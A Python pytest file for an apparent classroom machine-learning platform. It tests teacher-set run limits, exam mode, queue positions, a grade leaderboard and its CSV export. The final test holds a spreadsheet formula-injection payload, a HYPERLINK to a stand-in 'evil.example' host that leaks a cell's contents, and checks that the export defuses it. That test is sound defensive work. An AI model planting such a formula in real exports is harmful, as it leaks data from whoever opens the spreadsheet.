"""The teacher's limits for students and exam mode, through the services and the CLI, on a real store."""
import pytest

from core.cli.main import main as cli
from core.domain.class_rules import ClassRules, LimitError
from core.domain.config import TrainConfig
from core.domain.people import OPERATOR
from core.domain.run_query import RunQuery
from core.domain.sweep_spec import SweepSpec, Variant
from core.services import accounts, jobs, sweeps
from core.services import classroom as class_service
from core.services.permissions import PermissionDenied
from core.views.display import runs_table
from tests.conftest import AMY, BEN, TESS, on_both_databases


def test_each_limit_refuses_a_students_submission_naming_it(classroom):
    settings = classroom
    class_service.set_rules({"epochs": "3", "params": "5000", "queued": "2"}, settings, actor=TESS)
    with pytest.raises(LimitError, match="^limit: 4 epochs is over the class limit of 3 epochs per run$"):
        jobs.submit(TrainConfig(epochs=4), settings, actor=AMY)
    big = TrainConfig(epochs=1, architecture="mlp")  # the digits MLP has more than 5,000 parameters
    with pytest.raises(LimitError, match=r"^limit: the model has [\d,]+ parameters, over the class limit of 5,000"):
        jobs.submit(big, settings, actor=AMY)
    class_service.set_rules({"params": "none"}, settings, actor=TESS)
    first = [jobs.submit(TrainConfig(epochs=1), settings, actor=AMY) for _ in range(2)]
    with pytest.raises(LimitError, match="^limit: you have 2 runs queued and this adds 1, over the class limit of 2"):
        jobs.submit(TrainConfig(epochs=1), settings, actor=AMY)
    assert jobs.submit(TrainConfig(epochs=1), settings, actor=BEN)  # the limit is per student
    assert jobs.submit(TrainConfig(epochs=9), settings, actor=TESS)  # teachers are not limited
    jobs.cancel(first[0], settings, actor=AMY)
    assert jobs.submit(TrainConfig(epochs=1), settings, actor=AMY)  # one slot again
    assert len(jobs.list_runs(settings, actor=TESS)) == 5  # nothing was stored for a refused submission


def test_a_sweep_over_the_runs_per_sweep_limit_is_refused(classroom):
    settings = classroom
    class_service.set_rules({"sweep-runs": "2"}, settings, actor=TESS)
    spec = SweepSpec(name="big", datasets=("digits",), variants=(Variant("mlp", "mlp"),), optimizers=("adam",),
                     learning_rates=(1e-2, 1e-3, 1e-4), batch_sizes=(16,), epochs=(1,))
    with pytest.raises(LimitError, match="^limit: this sweep has 3 runs, over the class limit of 2 runs per sweep"):
        sweeps.start(spec, settings, actor=AMY)
    assert sweeps.sweeps(settings, actor=TESS) == []
    assert sweeps.start(spec, settings, actor=TESS)


def test_only_a_teacher_sets_limits_and_bad_values_are_one_line(classroom):
    settings = classroom
    with pytest.raises(PermissionDenied, match="^limits: only a teacher"):
        class_service.set_rules({"queued": "1"}, settings, actor=AMY)
    with pytest.raises(LimitError, match="^queued: must be a whole number from 1 up, or none; got 'lots'$"):
        class_service.set_rules({"epochs": "5", "queued": "lots"}, settings, actor=TESS)
    assert class_service.rules(settings) == ClassRules()  # nothing of a refused change was saved
    with pytest.raises(LimitError, match="^speed: not a limit; use one of queued, at-once"):
        class_service.set_rules({"speed": "1"}, settings, actor=TESS)
    rules = class_service.set_rules({"at-once": "1", "hide-others": "on"}, settings, actor=TESS)
    assert (rules.max_running, rules.hide_others_runs) == (1, True)
    assert accounts.audit(settings)[0].action == "set limits"


def test_exam_mode_shows_a_student_only_their_own_runs(classroom):
    settings = classroom
    amys = jobs.submit(TrainConfig(name="amy's", epochs=1), settings, actor=AMY)
    bens = jobs.submit(TrainConfig(name="ben's", epochs=1), settings, actor=BEN)
    assert {r.id for r in jobs.query(RunQuery(), settings, actor=BEN)[0]} == {amys, bens}  # read-only, but seen
    class_service.set_rules({"hide-others": "on"}, settings, actor=TESS)
    assert [r.id for r in jobs.query(RunQuery(), settings, actor=BEN)[0]] == [bens]
    assert [r.id for r in jobs.list_runs(settings, actor=BEN)] == [bens]
    assert jobs.get_run(amys, settings, actor=BEN) is None
    assert jobs.runs_by_id([amys, bens], settings, actor=BEN) == jobs.runs_by_id([bens], settings, actor=TESS)
    assert {r.id for r in jobs.query(RunQuery(), settings, actor=TESS)[0]} == {amys, bens}


def test_the_runs_table_shows_a_queued_runs_place(classroom):
    settings = classroom
    amy = [jobs.submit(TrainConfig(name=f"amy {i}", epochs=1), settings, actor=AMY) for i in range(3)]
    ben = jobs.submit(TrainConfig(name="ben", epochs=1), settings, actor=BEN)
    places = class_service.queue_places(settings, actor=TESS)
    assert [places[i].position for i in (*amy, ben)] == [1, 3, 4, 2]  # two workers: amy's first, then ben's
    table = runs_table(jobs.runs_by_id([*amy, ben], settings, actor=TESS), places)
    assert table.loc[0, "detail"] == "1st in the queue · next"
    assert table.loc[3, "detail"] == "2nd in the queue · next"
    assert table.loc[2, "detail"].startswith("4th in the queue · starts in about ")
    assert list(table["owner"]) == ["amy", "amy", "amy", "ben"]


def test_the_assignment_board_ranks_students_by_validation_accuracy(classroom, store):
    from core.store.runs import MetricPoint

    settings = classroom
    runs = {}
    for owner, val, test in (("amy", 0.91, 0.905), ("amy", 0.89, 0.93), ("ben", 0.92, 0.88)):
        run_id = store.create_run(f"{owner} {val}", {"dataset": "digits"}, owner=owner)
        store.claim(run_id, 1, "host")
        store.report(run_id, [MetricPoint("epoch", 1, 1.0, 1.0, "val_accuracy", val)], 1, 0, 1.0, None)
        store.finish(run_id, "succeeded", test_accuracy=test)
        runs[(owner, val)] = run_id
    board = class_service.assignment_board("digits", 0.9, settings, actor=TESS)
    assert list(board["student"]) == ["ben", "amy"]
    assert list(board["run"]) == [runs[("ben", 0.92)], runs[("amy", 0.91)]]  # amy's best by validation, not test
    assert list(board["reached"]) == [False, True]
    assert "student,run,name" in class_service.board_csv(board).splitlines()[0]


def test_the_limits_command(lab, capsys):
    assert cli(["limits", "set", "queued=5", "at-once=1"]) == 0
    out = capsys.readouterr().out
    assert "queued" in out and "5" in out and "at-once" in out
    assert cli(["limits", "set", "queued"]) == 2
    assert "error: queued: write it as KEY=VALUE" in capsys.readouterr().err
    assert class_service.rules(lab).max_queued == 5 and class_service.rules(lab).max_running == 1
    assert cli(["limits"]) == 0
    assert OPERATOR.is_teacher


@on_both_databases
def test_parallel_submissions_never_overshoot_the_queued_runs_limit(classroom):
    from concurrent.futures import ThreadPoolExecutor

    settings = classroom
    class_service.set_rules({"queued": "5"}, settings, actor=TESS)

    def start(i: int) -> str:
        try:
            jobs.submit(TrainConfig(name=f"amy {i}", epochs=1), settings, actor=AMY)
        except LimitError as exc:
            return str(exc)
        return "queued"

    with ThreadPoolExecutor(12) as pool:
        answers = list(pool.map(start, range(12)))
    assert answers.count("queued") == 5
    assert all(a == "queued" or a.startswith("limit: you have 5 runs queued and this adds 1") for a in answers)
    assert len(jobs.list_runs(settings, actor=AMY)) == 5
    with pytest.raises(LimitError):  # a sweep and a lesson's pair are held to the same count, all or nothing
        sweeps.start(SweepSpec(name="s", datasets=("digits",), variants=(Variant("mlp", "mlp"),), optimizers=("adam",),
                               learning_rates=(1e-2,), batch_sizes=(16,), epochs=(1,)), settings, actor=AMY)
    assert len(jobs.list_runs(settings, actor=AMY)) == 5


def test_a_run_name_that_looks_like_a_formula_reaches_the_boards_csv_as_text(classroom, store):
    """Found by a hostile probe: a student renamed her run `=HYPERLINK(...)`, a live link in the teacher's
    spreadsheet."""
    import csv
    import io

    from core.store.runs import MetricPoint

    name = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for grade")'
    run_id = store.create_run(name, {"dataset": "digits"}, owner="amy")
    store.claim(run_id, 1, "host")
    store.report(run_id, [MetricPoint("epoch", 1, 1.0, 1.0, "val_accuracy", 0.95)], 1, 0, 1.0, None)
    store.finish(run_id, "succeeded", test_accuracy=0.94)
    board = class_service.assignment_board("digits", 0.9, classroom, actor=TESS)
    [row] = [r for r in csv.DictReader(io.StringIO(class_service.board_csv(board))) if r["student"] == "amy"]
    assert row["name"] == "'" + name and row["student"] == "amy" and float(row["val accuracy"]) == 0.95
